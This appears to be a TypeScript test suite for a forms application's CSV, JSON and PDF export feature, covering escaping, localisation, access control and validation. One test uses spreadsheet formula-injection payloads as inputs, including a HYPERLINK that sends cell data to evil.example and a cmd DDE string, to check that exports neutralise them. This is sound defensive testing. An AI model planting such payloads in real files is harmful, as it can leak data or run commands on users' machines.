// Nightly: it takes over three seconds.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { setTimeout } from 'node:timers/promises';
import type { FormActor } from '#form-basics/form.ts';
import type { JsonObject } from '#kernel/json.ts';
import { PNG } from '../../test/support/attachments.ts';
import { adminBrowser, type Browser, openBrowser } from '../../test/support/browser.ts';
import { forEachEngine } from '../../test/support/engines.ts';
import { type Answer, type Instance, startInstance } from '../../test/support/instance.ts';
import { unzip } from '../../test/support/unzip.ts';

const PASSWORD = 'four green kettles in march';

const DEFINITION: JsonObject = {
  elements: [
    { type: 'text', name: 'site', title: 'Site, with comma' },
    { type: 'text', name: 'count', inputType: 'number', title: 'Count' },
    {
      type: 'radiogroup',
      name: 'colour',
      title: { default: 'Colour', de: 'Farbe' },
      choices: ['red', { value: 'g', text: { default: 'Green', de: 'Grün' } }],
    },
    { type: 'boolean', name: 'safe', title: 'Safe?' },
    { type: 'file', name: 'photo', title: 'Photos', allowMultiple: true },
    { type: 'signaturepad', name: 'signature', title: 'Signature' },
    {
      type: 'matrixdynamic',
      name: 'items',
      title: 'Items',
      columns: [
        { name: 'part', title: 'Part', cellType: 'text' },
        { name: 'qty', title: 'Quantity', cellType: 'text', inputType: 'number' },
      ],
    },
  ],
};

forEachEngine((engine) => {
  let node: Instance;
  let admin: Browser;
  let ann: Browser;
  let annId: string;
  const actor = (userId: string, role: FormActor['role']): FormActor => ({
    accountId: node.account.accountId,
    userId,
    role,
    via: 'api',
  });
  const publish = (name: string, definition: JsonObject, openToAll = true): Promise<string> =>
    node.services.db.transaction(async (tx) => {
      const { forms } = node.services;
      const by = actor(node.account.userId, 'admin');
      const { id } = await forms.createTemplate(tx, by, { name, definition, openToAll });
      await forms.publishTemplate(tx, by, id);
      return id;
    });
  const create = async (
    templateId: string,
    {
      answers = {},
      by = actor(node.account.userId, 'admin'),
      name = 'Form',
    }: {
      answers?: JsonObject;
      by?: FormActor;
      name?: string;
    } = {},
  ): Promise<string> => {
    const { db, forms } = node.services;
    const input = { templateId, name, answers };
    return (await db.transaction((tx) => forms.createForm(tx, by, input))).form.id;
  };
  before(async () => {
    node = await startInstance(engine);
    admin = await adminBrowser(node);
    const made = await admin.send('POST', '/app/v1/users', {
      body: { userName: 'ann', displayName: 'Ann', password: PASSWORD },
    });
    annId = String(made.at('id'));
    ann = openBrowser(node);
    await ann.signIn('ann', PASSWORD);
  });
  after(() => node.close());

  const finished = async (browser: Browser, url: string): Promise<Answer> => {
    for (let waited = 0; waited < 30_000; waited += 25) {
      const answer = await browser.send('GET', url);
      assert.equal(answer.status, 200, answer.text);
      if (answer.at('finishedAt') !== undefined) return answer;
      await setTimeout(25);
    }
    throw new Error('the export never ends');
  };
  const exportAll = async (browser: Browser, body: object): Promise<Answer> => {
    const begun = await browser.send('POST', '/app/v1/exports', { body });
    assert.equal(begun.status, 202, begun.text);
    return finished(browser, String(begun.headers['location']));
  };
  const download = async (browser: Browser, job: Answer, n = 0): Promise<Answer> => {
    assert.equal(job.at('state'), 'done', job.text);
    const answer = await browser.send('GET', String(job.at('files', n, 'url')));
    assert.equal(answer.status, 200, answer.text);
    return answer;
  };

  test('the forms of a template become a table, with formulas made harmless and numbers as they are', async () => {
    const templateId = await publish('Flat', {
      elements: [
        { type: 'text', name: 'site', title: 'Site' },
        { type: 'text', name: 'count', inputType: 'number' },
        { type: 'boolean', name: 'safe' },
        { type: 'checkbox', name: 'tags', choices: ['a', { value: 'b', text: 'Bee' }] },
      ],
    });
    const attacks = [
      '=HYPERLINK("http://evil.example?x="&A1)',
      '+1+1',
      '-2+3+cmd|" /C calc"!A0',
      '@SUM(1)',
      '\t=1',
      '＝1+1',
    ];
    for (const site of attacks) {
      await create(templateId, { answers: { site, count: -5, safe: true, tags: ['a', 'b'] } });
    }
    await create(templateId, { name: '=cmd', answers: { site: 'a "quoted", line\nbreak' } });
    const job = await exportAll(admin, { kind: 'csv', templateId, bom: true });
    assert.deepEqual([job.at('written'), job.at('progress'), job.at('problemCount')], [7, 100, 0]);
    const file = await download(admin, job);
    assert.equal(file.headers['content-type'], 'text/csv; charset=utf-8');
    assert.match(file.headers['content-disposition'] ?? '', /^attachment; filename="Flat.csv"/);
    assert.deepEqual([...file.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.match(file.text, /^\uFEFFForm id,Number,Name,.*,Site,count,safe,tags\r\n/);
    for (const [i, attack] of attacks.entries()) {
      const quoted = `'${attack}`.replaceAll('"', '""');
      const line = file.text.split('\r\n')[i + 1] ?? '';
      assert.ok(line.includes(quoted), `${attack}: ${line}`);
      assert.ok(line.endsWith(',-5,Yes,"a, Bee"'), line);
    }
    assert.ok(file.text.includes(`,'=cmd,draft,`));
    assert.ok(file.text.includes('"a ""quoted"", line\nbreak",,,'));
  });

  test('a table inside of forms has a file of its own, in one archive, in the language asked for', async () => {
    const templateId = await publish('Inspektion: Süd/Nord', DEFINITION);
    const items = [{ part: '=1+1', qty: 2 }, { part: 'Bolt' }];
    const id = await create(templateId, { answers: { site: 'Dam', colour: 'g', items } });
    await create(templateId, { answers: { site: 'Weir' } });
    const job = await exportAll(admin, { kind: 'csv', templateId, locale: 'de' });
    const file = await download(admin, job);
    assert.equal(file.headers['content-type'], 'application/zip');
    const files = unzip(file.bytes);
    const base = 'Inspektion_ Süd_Nord';
    assert.deepEqual([...files.keys()], [`${base}.csv`, `${base} - items.csv`]);
    const main = files.get(`${base}.csv`)?.toString() ?? '';
    assert.match(
      main,
      /^Formular-ID,.*,"Site, with comma",Count,Farbe,Safe\?,Photos,Signature,Items\r\n/,
    );
    assert.match(main, /,Dam,,Grün,,,,2\r\n/);
    assert.match(main, /,Entwurf,/);
    assert.equal(
      files.get(`${base} - items.csv`)?.toString(),
      `Formular-ID,Nummer,Zeile,Part,Quantity\r\n${id},1,1,'=1+1,2\r\n${id},1,2,Bolt,\r\n`,
    );
  });

  test('a template that changed gives the columns of all versions that somebody may know', async () => {
    const { db, forms } = node.services;
    const by = actor(node.account.userId, 'admin');
    const templateId = await publish('Two', {
      elements: [{ type: 'text', name: 'old', title: 'X' }],
    });
    await create(templateId, { answers: { old: 'one' }, by: actor(annId, 'member') });
    await db.transaction(async (tx) => {
      const definition = { elements: [{ type: 'text', name: 'fresh', title: 'X' }] };
      await forms.changeTemplate(tx, by, templateId, { definition, openToAll: false });
      await forms.publishTemplate(tx, by, templateId);
    });
    await create(templateId, { answers: { fresh: 'two' } });
    const { text } = await download(admin, await exportAll(admin, { kind: 'csv', templateId }));
    const lines = text.trim().split('\r\n');
    assert.match(lines[0] ?? '', /,X \(fresh\),X \(old\)$/);
    assert.match(lines[1] ?? '', /,,one$/);
    assert.match(lines[2] ?? '', /,two,$/);
    const own = await download(ann, await exportAll(ann, { kind: 'csv', templateId }));
    assert.match(own.text, /^Form id,.*\(m\),X\r\n.*,one\r\n$/);
  });

  test('JSON has the answers as they are, filtered by status and time', async () => {
    const templateId = await publish('Plain', DEFINITION);
    const empty = await download(admin, await exportAll(admin, { kind: 'json', templateId }));
    assert.deepEqual(empty.body, []);
    const first = await create(templateId, { answers: { site: '=1', items: [{ qty: 1 }] } });
    node.clock.advance(60_000);
    const between = new Date(node.clock.now()).toISOString();
    node.clock.advance(60_000);
    const second = await create(templateId, { answers: { site: 'later' } });
    await node.request('POST', `/v2/formz/${second}/status`, { body: { status: 'complete' } });
    const read = async (more: object): Promise<unknown[]> => {
      const job = await exportAll(admin, { kind: 'json', templateId, ...more });
      const { body } = await download(admin, job);
      assert.ok(Array.isArray(body));
      return body;
    };
    const all = await read({});
    assert.deepEqual(
      all.map((form) => [Object(form).formId, Object(form).answers.site]),
      [
        [first, '=1'],
        [second, 'later'],
      ],
    );
    assert.deepEqual((await read({ status: 'draft' })).length, 1);
    assert.deepEqual(
      (await read({ from: between })).map((form) => Object(form).formId),
      [second],
    );
    assert.deepEqual(
      (await read({ to: between })).map((form) => Object(form).formId),
      [first],
    );
  });

  test('one bad record never stops the rest, and is named', async () => {
    const templateId = await publish('Bad', DEFINITION);
    const good = await create(templateId, { name: 'Good', answers: { site: 'Dam' } });
    const bad = await create(templateId, { name: 'Broken one', answers: { site: 'Weir' } });
    const { db } = node.services;
    await db.reader
      .updateTable('forms')
      .set({ answers: '{"site"' })
      .where('id', '=', bad)
      .execute();
    for (const kind of ['csv', 'json', 'pdf'] as const) {
      const job = await exportAll(admin, { kind, templateId });
      assert.deepEqual([job.at('written'), job.at('problemCount')], [1, 1], job.text);
      assert.equal(job.at('problems', 0, 'formId'), bad);
      assert.equal(job.at('problems', 0, 'form'), 'Broken one');
      const problems = await download(admin, job, 1);
      assert.match(problems.text, new RegExp(`\\r\\n${bad},Broken one,`));
      if (kind === 'json') assert.ok((await download(admin, job)).text.includes(good));
    }
  });

  test('members export what they may see, and nobody reads the exports of another', async () => {
    const templateId = await publish('Shared', DEFINITION);
    const member = actor(annId, 'member');
    const own = await create(templateId, { by: member, answers: { site: 'mine' } });
    await create(templateId, { answers: { site: 'theirs' } });
    const job = await exportAll(ann, { kind: 'json', templateId });
    const { body } = await download(ann, job);
    assert.ok(Array.isArray(body));
    assert.deepEqual(
      body.map(({ formId }) => formId),
      [own],
    );
    const url = `/app/v1/exports/${job.at('id')}`;
    for (const [method, path] of [
      ['GET', url],
      ['GET', `${url}/files/0`],
      ['DELETE', url],
    ] as const) {
      assert.equal((await admin.send(method, path)).status, 404, path);
    }
    const listed = await admin.send('GET', '/app/v1/exports?limit=100');
    assert.ok(!listed.text.includes(String(job.at('id'))));
    const usable = await publish('Usable', DEFINITION);
    await create(usable);
    const none = await exportAll(ann, { kind: 'json', templateId: usable });
    assert.deepEqual((await download(ann, none)).body, []);
    const hidden = await publish('Hidden', DEFINITION, false);
    await create(hidden);
    const refused = await ann.send('POST', '/app/v1/exports', {
      body: { kind: 'csv', templateId: hidden },
    });
    assert.deepEqual([refused.status, refused.at('at')], [404, 'templateId']);
  });

  test('the list of exports has no name of a form that its reader may no longer see, or that is deleted', async () => {
    const templateId = await publish('Letters', DEFINITION, false);
    const form = await create(templateId);
    const path = `/app/v1/forms/${form}`;
    const assign = async (id: string) => {
      const body = { assignment: { type: 'User', id } };
      const answer = await admin.send('POST', `${path}/assign`, { body });
      assert.equal(answer.status, 200, answer.text);
    };
    await assign(annId);
    const job = await exportAll(ann, { kind: 'pdf', formId: form });
    const nameFor = async (browser: Browser, of: Answer): Promise<unknown> => {
      const listed = await browser.send('GET', '/app/v1/exports?limit=100');
      const items = listed.at('items');
      assert.ok(Array.isArray(items));
      const read = await browser.send('GET', `/app/v1/exports/${of.at('id')}`);
      const names = [
        items.find(({ id }) => id === of.at('id'))?.form.name,
        read.at('form', 'name'),
      ];
      assert.equal(names[0], names[1]);
      return names[0];
    };
    const own = await exportAll(admin, { kind: 'pdf', formId: form });
    assert.deepEqual([await nameFor(ann, job), await nameFor(admin, own)], ['Form', 'Form']);
    await assign(node.account.userId);
    assert.equal((await ann.send('GET', path)).status, 404);
    assert.deepEqual([await nameFor(ann, job), await nameFor(admin, own)], [undefined, 'Form']);
    assert.equal((await admin.send('DELETE', path)).status, 204);
    assert.equal(await nameFor(admin, own), undefined);
  });

  test('what makes no sense is refused, and a file is deleted with its export', async () => {
    const templateId = await publish('Sense', DEFINITION);
    const formId = await create(templateId);
    for (const [body, at] of [
      [{ kind: 'csv' }, 'templateId'],
      [{ kind: 'pdf', templateId, formId }, 'templateId'],
      [{ kind: 'csv', formId }, 'kind'],
      [{ kind: 'xml', templateId }, 'kind'],
      [{ kind: 'csv', templateId, from: 'yesterday' }, 'from'],
      [{ kind: 'csv', templateId, more: 1 }, 'more'],
    ] as const) {
      const answer = await admin.send('POST', '/app/v1/exports', { body });
      assert.deepEqual([answer.status, answer.at('at')], [400, at], answer.text);
    }
    const job = await exportAll(admin, { kind: 'csv', templateId: templateId.toUpperCase() });
    assert.equal(job.at('template', 'id'), templateId);
    const file = String(job.at('files', 0, 'url'));
    for (const n of ['1', '-1', 'x', '0.0', '__proto__']) {
      assert.equal((await admin.send('GET', file.replace(/0$/, n))).status, 404, n);
    }
    assert.equal((await admin.send('DELETE', `/app/v1/exports/${job.at('id')}`)).status, 204);
    assert.equal((await admin.send('GET', file)).status, 404);
  });

  test('over /v2 a PDF is asked for, waited for, and read with the same token', async () => {
    const templateId = await publish('Printed', DEFINITION);
    const formId = await create(templateId, {
      name: 'Damm – Überprüfung Żółw',
      answers: { site: 'Dam <b>', count: 3, items: [{ part: 'Bolt', qty: 2 }] },
    });
    const uploaded = await node.request('POST', `/v2/formz/${formId}/attachments?field=photo`, {
      body: PNG,
      headers: { 'content-type': 'image/png' },
    });
    const { id, name, type, size } = Object(uploaded.body);
    const { db, forms } = node.services;
    await db.transaction((tx) =>
      forms.editForm(tx, actor(node.account.userId, 'admin'), formId, {
        answers: { site: 'Dam', photo: [{ id, name, type, size }] },
      }),
    );
    const begun = await node.request('POST', `/v2/formz/${formId}/exports`, {
      body: { type: 'pdf', pages: '' },
    });
    assert.equal(begun.status, 202, begun.text);
    const queue = String(begun.headers['location']).slice(node.baseUrl.length);
    assert.equal(queue, `/v2/queue/${begun.at('id')}`);
    let waiting = begun;
    for (let waited = 0; waited < 30_000 && waiting.at('status') !== 'Completed'; waited += 25) {
      assert.notEqual(waiting.at('status'), 'Failed', waiting.text);
      await setTimeout(25);
      waiting = await node.request('GET', queue);
    }
    const url = String(waiting.at('redirectUrl'));
    assert.equal(url, `${node.baseUrl}/v2/formz/${formId}/exports/${begun.at('id')}`);
    const made = await node.request('GET', url.slice(node.baseUrl.length));
    const pdf = await node.request('GET', String(made.at('link')).slice(node.baseUrl.length));
    assert.equal(pdf.headers['content-type'], 'application/pdf');
    assert.equal(pdf.bytes.toString('latin1', 0, 5), '%PDF-');
    assert.equal(pdf.bytes.length, made.at('size'));
    assert.match(pdf.bytes.toString('latin1'), /\/Subtype \/Image/);
    const { token } = await node.addUser('nobody-special');
    for (const path of [queue, url.slice(node.baseUrl.length)]) {
      assert.equal((await node.request('GET', path, { token })).status, 404, path);
    }
    const paged = { type: 'pdf', pages: '1-5,7' };
    const some = await node.request('POST', `/v2/formz/${formId}/exports`, { body: paged });
    assert.deepEqual([some.status, some.at('at')], [400, 'pages']);
  });

  test('all forms of a template are printed into one archive, names told apart', async () => {
    const templateId = await publish('Prints', DEFINITION);
    for (let i = 0; i < 3; i += 1)
      await create(templateId, { name: 'Same', answers: { site: `${i}` } });
    const file = await download(admin, await exportAll(admin, { kind: 'pdf', templateId }));
    const names = ['1 - Same.pdf', '2 - Same.pdf', '3 - Same.pdf'];
    const files = unzip(file.bytes);
    assert.deepEqual([...files.keys()], names);
    for (const bytes of files.values()) assert.equal(bytes.toString('latin1', 0, 5), '%PDF-');
  });
});
